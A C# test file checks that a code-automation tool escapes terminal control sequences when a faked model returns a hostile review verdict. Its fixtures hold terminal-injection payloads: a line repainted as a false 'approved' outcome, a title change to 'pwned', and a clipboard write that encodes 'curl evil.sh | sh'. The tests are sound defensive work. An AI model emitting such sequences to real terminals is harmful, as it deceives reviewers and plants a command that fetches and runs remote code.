using System.Text.Json;
using Factory.Tests.Support;
using Factory.Tests.Support.FakeOllama;

namespace Factory.Tests.Runner;

/// <summary>
/// A hostile REVIEW verdict (a line repainted as "approved", an OSC 52 clipboard write, a C1 CSI) and a request text
/// with escape sequences, through the real command line: the bytes the process writes hold none of them, only their
/// visible escapes. Output is not a terminal here, so Factory adds no styling of its own either: no ESC at all.
/// </summary>
[Collection(RunnerGroup.Name)]
public sealed class TerminalInjectionTests(RunnerProcess runner)
{
    private const string Repaint = "an unrequested route\r\u001b[2K\u001b[1A\u001b[32moutcome: approved\u001b[0m";
    private const string Clipboard = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
    private const string C1Csi = "\u009b31m";
    private const string Request = "add a GET /health endpoint returning status ok\u001b]0;pwned\u0007";

    [Fact]
    public async Task Escape_sequences_in_a_verdict_are_shown_escaped_by_run_and_report()
    {
        using var repo = SampleRepo.Create();
        await using var ollama = await HostileReviewAsync();
        var env = RunnerTestKit.Environment(repo);

        var run = await runner.RunAsync(env, "run", Request, "--repo", repo.CheckoutPath, "--runs", repo.RunsPath,
            "--ollama", ollama.BaseUri.ToString(), "--id", "health");
        var report = await runner.RunAsync(env, "report", repo.RunsPath);

        Assert.True(run.ExitCode == 1, run.ToString());
        Assert.Contains("outcome: rejected", run.Output);
        Assert.True(run.Output.Contains(@"reason: REVIEW rejected the change: an unrequested route\r\e[2K\e[1A\e[32moutcome: approved\e[0m; \e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\a; \u009b31m", StringComparison.Ordinal), run.ToString());
        Assert.True(run.Output.Contains(@"started: add a GET /health endpoint returning status ok\e]0;pwned\a", StringComparison.Ordinal), run.ToString());
        AssertNoControlBytes(run);
        Assert.True(report.ExitCode == 0, report.ToString());
        Assert.Contains("| rejected | 1 |", report.Output);
        AssertNoControlBytes(report);
    }

    [Fact]
    public async Task Escape_sequences_in_a_verdict_are_shown_escaped_by_batch()
    {
        using var repo = SampleRepo.Create();
        await using var ollama = await HostileReviewAsync();
        var backlog = Path.Combine(repo.RunsPath, "backlog.jsonl");
        await File.WriteAllTextAsync(backlog, JsonSerializer.Serialize(new { id = "health", request = Request }) + "\n");

        var batch = await runner.RunAsync(RunnerTestKit.Environment(repo),
            "batch", backlog, "--repo", repo.CheckoutPath, "--runs", repo.RunsPath, "--ollama", ollama.BaseUri.ToString());

        Assert.True(batch.ExitCode == 1, batch.ToString());
        Assert.True(batch.Output.Contains(@"1  health  rejected  REVIEW rejected the change: an unrequested route\r\e[2K\e[1A\e[32moutcome: approved\e[0m; \e]52;c;", StringComparison.Ordinal), batch.ToString());
        AssertNoControlBytes(batch);
    }

    private static async Task<FakeOllamaServer> HostileReviewAsync()
    {
        var ollama = await FakeOllamaServer.StartAsync();
        ScriptedModels.Install(ollama, request => ScriptedModels.IsStage(request, "REVIEW")
            ? FakeReply.Text(JsonSerializer.Serialize(new { verdict = "reject", reasons = new[] { Repaint, Clipboard, C1Csi } }))
            : null);
        return ollama;
    }

    /// <summary>No C0 control but newline and tab, no DEL, and no C1 control (UTF-8 C2 80 to C2 9F) in the raw bytes.</summary>
    private static void AssertNoControlBytes(RunResult result)
    {
        foreach (var (name, bytes) in new[] { ("stdout", result.RawOutput), ("stderr", result.RawError) })
        {
            for (var i = 0; i < bytes.Length; i++)
            {
                var b = bytes[i];
                var control = (b < 0x20 && b is not (0x0A or 0x09)) || b == 0x7F || (b == 0xC2 && i + 1 < bytes.Length && bytes[i + 1] is >= 0x80 and <= 0x9F);
                Assert.False(control, $"{name} holds the control byte 0x{b:x2} at {i}:\n{result}");
            }
        }
    }
}
